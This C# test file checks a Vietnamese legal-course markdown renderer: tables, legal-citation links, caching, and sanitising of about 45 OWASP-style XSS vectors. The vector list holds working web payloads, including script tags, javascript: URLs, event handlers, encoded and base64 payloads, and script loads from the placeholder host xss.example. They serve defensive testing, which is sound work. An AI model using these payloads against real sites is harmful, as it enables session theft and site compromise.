using Microsoft.Extensions.Caching.Memory;
using Microsoft.Extensions.DependencyInjection;
using Training.Abstractions.Citations;
using Training.Courses.Markdown;

namespace Training.Courses.Tests.Markdown;

public sealed class LessonRendererTests
{
    private sealed class FakeResolver : ICitationResolver
    {
        public int Calls;

        public Task<CitationResult> ResolveAsync(string citation, CancellationToken ct = default)
        {
            Interlocked.Increment(ref Calls);
            return Task.FromResult(citation switch
            {
                "Luật An ninh mạng, Điều 8" => new CitationResult(true, "/library/luat-an-ninh-mang-2018#dieu-8", "Các hành vi bị nghiêm cấm về an ninh mạng",
                    null, "luat-an-ninh-mang-2018/dieu-8", null),
                "Bộ luật Hình sự, Điều 288" => new CitationResult(true, "/library/blhs#dieu-288", "Tội đưa hoặc sử dụng trái phép thông tin", "BLHS Điều 288",
                    "blhs/dieu-288", null),
                _ => CitationResult.Fail("Không tìm thấy văn bản."),
            });
        }
    }

    private static LessonRenderer Create(ICitationResolver? resolver = null)
    {
        var services = new ServiceCollection();
        if (resolver is not null) services.AddSingleton(resolver);
        return Renderers.Create(services.BuildServiceProvider());
    }

    [Fact]
    public async Task RendersTablesHeadingAnchorsFootnotesAndImages()
    {
        var html = (await Create().RenderAsync("""
            ## Mục tiêu bài học

            | A | B |
            |---|---|
            | 1 | 2 |

            Văn bản[^1] ![Sơ đồ](/img/a.png "sơ đồ")

            [^1]: Chú thích.
            """, forAuthor: false)).Html;
        Assert.Contains("<table>", html);
        Assert.Contains("id=\"mục-tiêu-bài-học\"", html);
        Assert.Contains("class=\"footnotes\"", html);
        Assert.Contains("<img src=\"/img/a.png\"", html);
    }

    [Fact]
    public async Task ResolvedCitationBecomesALinkAndItsArticleKeyIsKept()
    {
        var result = await Create(new FakeResolver()).RenderAsync("Xem [[Luật An ninh mạng, Điều 8]] và [[Bộ luật Hình sự, Điều 288]].", forAuthor: false);
        Assert.Contains("<a class=\"citation\" href=\"/library/luat-an-ninh-mang-2018#dieu-8\" title=\"Các hành vi bị nghiêm cấm về an ninh mạng\">Luật An ninh mạng, Điều 8</a>", result.Html);
        Assert.Contains(">BLHS Điều 288</a>", result.Html);
        Assert.Equal(["blhs/dieu-288", "luat-an-ninh-mang-2018/dieu-8"], result.ArticleKeys);
        Assert.Empty(result.Problems);
    }

    [Fact]
    public async Task UnresolvedCitationIsMarkedForLearnersAndListedForAuthors()
    {
        var renderer = Create(new FakeResolver());
        var learner = await renderer.RenderAsync("Theo [[Luật Không Có, Điều 99]].", forAuthor: false);
        Assert.Contains("class=\"citation citation-unresolved\"", learner.Html);
        Assert.Contains("Luật Không Có, Điều 99", learner.Html);
        var author = await renderer.RenderAsync("Theo [[Luật Không Có, Điều 99]].", forAuthor: true);
        var problem = Assert.Single(author.Problems);
        Assert.Equal("Luật Không Có, Điều 99", problem.Text);
        Assert.Contains("Không tìm thấy văn bản.", author.Html);
    }

    [Fact]
    public async Task WithoutALegalLibraryEveryCitationIsAnUnresolvedErrorNeverDropped()
    {
        var result = await Create().RenderAsync("[[Luật An ninh mạng, Điều 8]]", forAuthor: true);
        Assert.Single(result.Problems);
        Assert.Contains("Luật An ninh mạng, Điều 8", result.Html);
    }

    [Fact]
    public async Task RenderedHtmlIsCachedByContentAndAnEditIsRenderedAfresh()
    {
        var resolver = new FakeResolver();
        var renderer = Create(resolver);
        await renderer.RenderAsync("[[Luật An ninh mạng, Điều 8]]", forAuthor: false);
        await renderer.RenderAsync("[[Luật An ninh mạng, Điều 8]]", forAuthor: false);
        Assert.Equal(1, resolver.Calls);
        var edited = await renderer.RenderAsync("Đã sửa [[Luật An ninh mạng, Điều 8]]", forAuthor: false);
        Assert.Equal(2, resolver.Calls);
        Assert.Contains("Đã sửa", edited.Html);
    }

    public static TheoryData<string> XssVectors() =>
    [
        "<script>alert('XSS')</script>",
        "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
        "<IMG SRC=\"javascript:alert('XSS');\">",
        "<IMG SRC=javascript:alert('XSS')>",
        "<IMG SRC=JaVaScRiPt:alert('XSS')>",
        "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
        "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
        "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
        "<IMG SRC=# onmouseover=\"alert('xxs')\">",
        "<IMG SRC= onmouseover=\"alert('xxs')\">",
        "<IMG onmouseover=\"alert('xxs')\">",
        "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
        "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
        "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
        "<IMG SRC=\"jav\tascript:alert('XSS');\">",
        "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
        "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
        "<SCRIPT/XSS SRC=\"https://xss.example/xss.js\"></SCRIPT>",
        "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
        "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
        "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
        "<svg/onload=alert('XSS')>",
        "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
        "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
        "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
        "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
        "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
        "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
        "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
        "<DIV STYLE=\"width: expression(alert('XSS'));\">",
        "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"https://xss.example/scriptlet.html\"></OBJECT>",
        "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
        "<form action=\"javascript:alert(1)\"><button>X</button></form>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "[klik](javascript:alert(1))",
        "[klik](JAVASCRIPT:alert(1))",
        "![x](javascript:alert(1))",
        "[x](vbscript:msgbox(1))",
        "<details open ontoggle=alert(1)>",
        "[[<script>alert(1)</script>]]",
        "[[\" onmouseover=\"alert(1)]]",
        "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
        "<base href=\"javascript:alert(1)//\">",
    ];

    [Theory]
    [MemberData(nameof(XssVectors))]
    public async Task OwaspXssVectorsRenderHarmless(string vector)
    {
        foreach (var forAuthor in new[] { false, true })
        {
            var rendered = await Create(new FakeResolver()).RenderAsync($"Đoạn văn.\n\n{vector}\n\nVà {vector} trong dòng.\n\nĐoạn cuối.", forAuthor);
            Assert.Null(rendered.Error);
            AssertHarmless(rendered.Html);
            // Harmless is not empty: the paragraphs around the vector survive as text.
            var text = Text(rendered.Html);
            Assert.Contains("Đoạn văn.", text);
            Assert.Contains("Đoạn cuối.", text);
        }
    }

    private static string Text(string html) =>
        new AngleSharp.Html.Parser.HtmlParser().ParseDocument("<html><body>" + html + "</body></html>").Body!.TextContent;

    private static readonly string[] Forbidden = ["script", "iframe", "object", "embed", "style", "form", "input", "button", "meta", "link", "base", "svg", "math", "frame", "frameset", "body"];

    /// <summary>Harmless: no active elements, no event handlers or inline styles, and every URL is http(s), mailto or relative.</summary>
    private static void AssertHarmless(string html)
    {
        var document = new AngleSharp.Html.Parser.HtmlParser().ParseDocument("<html><body><div id=\"root\">" + html + "</div></body></html>");
        var root = document.GetElementById("root")!;
        foreach (var element in root.QuerySelectorAll("*"))
        {
            Assert.DoesNotContain(element.LocalName, Forbidden);
            foreach (var attribute in element.Attributes)
            {
                Assert.False(attribute.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase), $"event handler {attribute.Name} in {html}");
                Assert.NotEqual("style", attribute.Name);
                if (attribute.Name is "href" or "src" or "action" or "formaction" or "background" or "data" or "xlink:href")
                {
                    var value = new string(attribute.Value.Where(c => !char.IsWhiteSpace(c) && !char.IsControl(c)).ToArray()).ToLowerInvariant();
                    Assert.True(value.StartsWith("http://") || value.StartsWith("https://") || value.StartsWith("mailto:") || value.StartsWith('/') || value.StartsWith('#')
                        || !value.Contains(':'), $"unsafe URL {attribute.Value} in {html}");
                }
            }
        }
    }

    [Fact]
    public void AtLeastThirtyVectorsAreTested() => Assert.True(XssVectors().Count >= 30);
}
